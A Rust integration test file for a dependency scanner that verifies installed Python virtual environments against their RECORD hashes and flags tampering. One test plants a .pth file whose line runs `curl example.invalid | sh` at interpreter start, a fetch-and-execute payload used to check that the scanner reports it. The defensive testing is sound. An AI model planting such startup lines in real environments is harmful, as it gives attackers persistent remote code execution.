//! Installed Python environments, end to end, on the virtual environment of
//! `tests/fixtures/python-installed/` (built offline by its `build.sh` from the wheels it
//! ships): the package list is the environment's `*.dist-info`, every recorded file re-hashes
//! clean, and each way of tampering with it (one changed byte, a planted `.pth`, a broken
//! `METADATA` or `RECORD`, a link out of the tree) gives exactly the finding or error that names
//! it. A project walk still skips environments unless `--include-environments` asks.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support;

const SITE: &str = "venv/lib/python3.11/site-packages";

fn fixture() -> PathBuf {
    support::fixtures().join("python-installed")
}

/// A copy of the fixture environment in a temporary directory (as `venv/`).
fn copy() -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    support::copy_tree(&fixture().join("venv"), &directory.path().join("venv"));
    directory
}

/// `airlock scan PATH -f json --no-vuln-db` in `directory`, with its exit code.
fn scan(directory: &Path, arguments: &[&str]) -> (Option<i32>, Value, String) {
    let mut all = vec!["scan", "-f", "json", "--no-vuln-db"];
    all.extend_from_slice(arguments);
    let output = support::run_in(directory, &all);
    let report = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output.status.code(), report, support::stderr(&output))
}

fn pypi_packages(report: &Value) -> BTreeSet<(String, String)> {
    report["components"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|component| component["ecosystem"] == "pypi")
        // Packages have versions; the local project a requirements file is the root of (named
        // after its directory, issue 19) has none and is not a package of the environment.
        .filter_map(|component| {
            Some((
                component["normalized_name"].as_str().unwrap().to_owned(),
                component["version"].as_str()?.to_owned(),
            ))
        })
        .collect()
}

/// (rule, message) of every finding.
fn findings(report: &Value) -> Vec<(String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| {
            (
                finding["rule"].as_str().unwrap().to_owned(),
                finding["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn of_rule<'a>(found: &'a [(String, String)], rule: &str) -> Vec<&'a str> {
    found
        .iter()
        .filter(|(id, _)| id == rule)
        .map(|(_, message)| message.as_str())
        .collect()
}

/// The `*.dist-info` directories of the fixture, as (normalized name, version).
fn dist_infos() -> BTreeSet<(String, String)> {
    std::fs::read_dir(fixture().join(SITE))
        .unwrap()
        .filter_map(|entry| {
            let name = entry.unwrap().file_name().to_string_lossy().into_owned();
            let stem = name.strip_suffix(".dist-info")?;
            let (name, version) = stem.split_once('-')?;
            Some((name.replace('_', "-"), version.to_owned()))
        })
        .collect()
}

#[test]
fn the_package_list_is_the_dist_infos_and_every_file_re_hashes_clean() {
    let (code, report, stderr) = scan(&fixture(), &["venv"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(pypi_packages(&report), dist_infos());
    assert_eq!(dist_infos().len(), 3);
    let found = findings(&report);
    for rule in [
        "installed-file-modified",
        "installed-integrity-unknown",
        "unrecorded-installed-file",
        "missing-hashes",
    ] {
        assert!(of_rule(&found, rule).is_empty(), "{rule}: {found:?}");
    }
    // The one `.pth` is gamma's own, listed in its RECORD: low, and naming its line.
    assert_eq!(
        of_rule(&found, "pth-startup-code"),
        [format!(
            "`{SITE}/gamma-shim.pth:1` runs code at every interpreter start (installed by \
             `{SITE}/gamma-0.3.dist-info`): `import os; os.environ.setdefault(\"GAMMA_SHIM\", \"1\")`"
        )]
    );
    let components = report["components"].as_array().unwrap();
    let environment = components
        .iter()
        .find(|component| component["name"] == "python-environment")
        .unwrap();
    assert_eq!(environment["version"], "3.11.7", "from pyvenv.cfg");
    assert_eq!(
        report["roots"],
        serde_json::json!([environment["ref"].clone()])
    );
    // Requires-Dist resolved among the installed packages; the extra's edge is optional; the
    // marker-guarded one that is not installed is a note, never a warning.
    let alpha = components
        .iter()
        .find(|component| component["normalized_name"] == "alpha")
        .unwrap();
    assert_eq!(alpha["licenses"], serde_json::json!(["MIT"]));
    let diagnostics = report["diagnostics"].as_array().unwrap();
    assert!(
        diagnostics
            .iter()
            .all(|diagnostic| diagnostic["severity"] == "note"),
        "{diagnostics:?}"
    );
    assert!(diagnostics.iter().any(
        |diagnostic| diagnostic["message"].as_str().unwrap().contains(
            "`alpha` requires `tomli>=1.1; python_version < \"3.0\"`, which is not installed"
        )
    ));
    // gamma's SBOM (PEP 770) is merged in: zlib is bundled inside gamma.
    assert!(components
        .iter()
        .any(|component| component["name"] == "zlib" && component["version"] == "1.3.1"));
    // Editable and direct-URL installs are not in this fixture; every package is the registry's.
    assert!(components
        .iter()
        .filter(|component| component["ecosystem"] == "pypi")
        .all(|component| component["purl"].as_str().unwrap().starts_with("pkg:pypi/")));
}

#[test]
fn one_changed_byte_of_one_installed_file_is_exactly_one_finding_naming_it() {
    let directory = copy();
    let path = directory.path().join(SITE).join("beta/__init__.py");
    let mut bytes = std::fs::read(&path).unwrap();
    bytes[10] ^= 0x20;
    std::fs::write(&path, bytes).unwrap();
    let (code, report, stderr) = scan(directory.path(), &["venv"]);
    assert_eq!(
        code,
        Some(1),
        "a high finding fails the default gate: {stderr}"
    );
    let found = findings(&report);
    let integrity: Vec<&(String, String)> = found
        .iter()
        .filter(|(rule, _)| rule.starts_with("installed-") || rule == "unrecorded-installed-file")
        .collect();
    assert_eq!(integrity.len(), 1, "{found:?}");
    assert_eq!(integrity[0].0, "installed-file-modified");
    assert!(
        integrity[0]
            .1
            .starts_with(&format!("`{SITE}/beta/__init__.py` of the installed package `Beta 2.1.0` does not match its RECORD")),
        "{}",
        integrity[0].1
    );
}

#[test]
fn a_planted_pth_with_an_import_line_is_reported_with_its_line() {
    let directory = copy();
    std::fs::write(
        directory.path().join(SITE).join("zz-planted.pth"),
        "/opt/extra\nimport os;os.system('curl example.invalid | sh')\n",
    )
    .unwrap();
    let (code, report, _) = scan(directory.path(), &["venv"]);
    assert_eq!(code, Some(1));
    let found = findings(&report);
    assert_eq!(
        of_rule(&found, "unrecorded-installed-file"),
        [format!(
            "`{SITE}/zz-planted.pth` lies in site-packages but no installed package's RECORD lists it"
        )]
    );
    let startup = of_rule(&found, "pth-startup-code");
    assert!(
        startup.contains(
            &format!(
                "`{SITE}/zz-planted.pth:2` runs code at every interpreter start (listed in no \
                 RECORD): `import os;os.system('curl example.invalid | sh')`"
            )
            .as_str()
        ),
        "{startup:?}"
    );
    let high: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["rule"] == "pth-startup-code" && finding["severity"] == "high")
        .collect();
    assert_eq!(high.len(), 1);
}

/// setuptools' own `distutils-precedence.pth` was read as a PyTorch checkpoint and failed the
/// scan: a text `.pth` is path configuration, wherever it lies.
#[test]
fn a_text_pth_is_path_configuration_not_a_pytorch_checkpoint() {
    let directory = copy();
    let text = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    std::fs::write(
        directory.path().join(SITE).join("distutils-precedence.pth"),
        text,
    )
    .unwrap();
    std::fs::create_dir_all(directory.path().join("project")).unwrap();
    std::fs::write(directory.path().join("project/paths.pth"), "/opt/lib\n").unwrap();
    std::fs::write(
        directory.path().join("project/requirements.txt"),
        "requests==2.31.0\n",
    )
    .unwrap();
    for path in ["venv", "project"] {
        let (_, report, stderr) = scan(directory.path(), &[path]);
        let found = findings(&report);
        assert!(
            found.iter().all(|(rule, _)| !matches!(
                rule.as_str(),
                "model-scan-incomplete" | "unsafe-serialization" | "malformed-model-file"
            )),
            "{path}: {found:?}"
        );
        assert!(!stderr.contains("error"), "{path}: {stderr}");
        let read: Vec<&str> = report["files"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|file| file["extractor"] == "model/pytorch")
            .map(|file| file["path"].as_str().unwrap())
            .collect();
        assert!(read.is_empty(), "{path}: {read:?}");
    }
}

#[test]
fn a_broken_metadata_or_record_is_named_with_its_line_never_a_panic() {
    let directory = copy();
    let site = directory.path().join(SITE);
    std::fs::write(
        site.join("beta-2.1.0.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: Beta\nthis is not a header\nVersion: 2.1.0\n",
    )
    .unwrap();
    let record = site.join("alpha-1.0.0.dist-info/RECORD");
    let mut text = std::fs::read_to_string(&record).unwrap();
    text.push_str("alpha/extra.py,sha256=abc\n");
    std::fs::write(&record, &text).unwrap();
    let bad_line = text.lines().count();
    let (code, report, stderr) = scan(directory.path(), &["venv"]);
    assert_eq!(code, Some(2), "an unreadable input is an error: {stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "{SITE}/beta-2.1.0.dist-info/METADATA:3: error[parse-error]: not a `Name: value` header: `this is not a header`"
        )),
        "{stderr}"
    );
    // The report is still written: the broken RECORD makes alpha's integrity unknown, said as
    // such and never clean, and its files still count as recorded (no second finding).
    let found = findings(&report);
    let unknown = of_rule(&found, "installed-integrity-unknown");
    assert_eq!(unknown.len(), 1, "{found:?}");
    assert!(
        unknown[0].contains(&format!(
            "{SITE}/alpha-1.0.0.dist-info/RECORD:{bad_line}: a RECORD row has 3 fields"
        )),
        "{}",
        unknown[0]
    );
    assert!(
        of_rule(&found, "unrecorded-installed-file").is_empty(),
        "{found:?}"
    );
    assert!(
        of_rule(&found, "installed-file-modified").is_empty(),
        "{found:?}"
    );
}

#[test]
fn links_out_of_the_root_are_never_followed() {
    let directory = copy();
    let outside = tempfile::tempdir().unwrap();
    let site = directory.path().join(SITE);
    // The same bytes, but behind a link out of the scanned tree: not read, so not verified.
    let original = site.join("beta/__init__.py");
    let target = outside.path().join("__init__.py");
    std::fs::copy(&original, &target).unwrap();
    std::fs::remove_file(&original).unwrap();
    std::os::unix::fs::symlink(&target, &original).unwrap();
    // A link to an executable outside, listed nowhere: never opened.
    let secret = outside.path().join("secret.so");
    std::fs::write(&secret, b"\x7fELF secret").unwrap();
    std::os::unix::fs::symlink(&secret, site.join("planted.so")).unwrap();
    let (_, report, stderr) = scan(directory.path(), &["venv", "--fail-on", "none"]);
    assert!(!stderr.contains("panicked"), "{stderr}");
    let found = findings(&report);
    let unknown = of_rule(&found, "installed-integrity-unknown");
    assert_eq!(unknown.len(), 1, "{found:?}");
    assert!(
        unknown[0].contains(&format!(
            "`{SITE}/beta/__init__.py` (it is a link out of the scanned tree; not followed)"
        )),
        "{}",
        unknown[0]
    );
    assert!(
        of_rule(&found, "installed-file-modified").is_empty(),
        "{found:?}"
    );
    let listed: Vec<&str> = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| file["path"].as_str().unwrap())
        .collect();
    assert!(
        !listed.iter().any(|path| path.ends_with("planted.so")),
        "{listed:?}"
    );
}

#[test]
fn a_project_walk_skips_environments_unless_asked() {
    let directory = tempfile::tempdir().unwrap();
    let project = directory.path().join("project");
    support::copy_tree(&fixture().join("venv"), &project.join(".venv"));
    std::fs::write(project.join("requirements.txt"), "requests==2.31.0\n").unwrap();
    let (code, report, stderr) = scan(directory.path(), &["project"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(
        pypi_packages(&report),
        BTreeSet::from([("requests".to_owned(), "2.31.0".to_owned())])
    );
    let (_, report, stderr) = scan(directory.path(), &["project", "--include-environments"]);
    let mut expected = dist_infos();
    expected.insert(("requests".to_owned(), "2.31.0".to_owned()));
    assert_eq!(pypi_packages(&report), expected, "{stderr}");
    // Pointing at the environment (or inside it) reads it without the flag.
    let (_, report, _) = scan(&project, &[".venv/lib/python3.11/site-packages"]);
    assert_eq!(pypi_packages(&report), dist_infos());
}
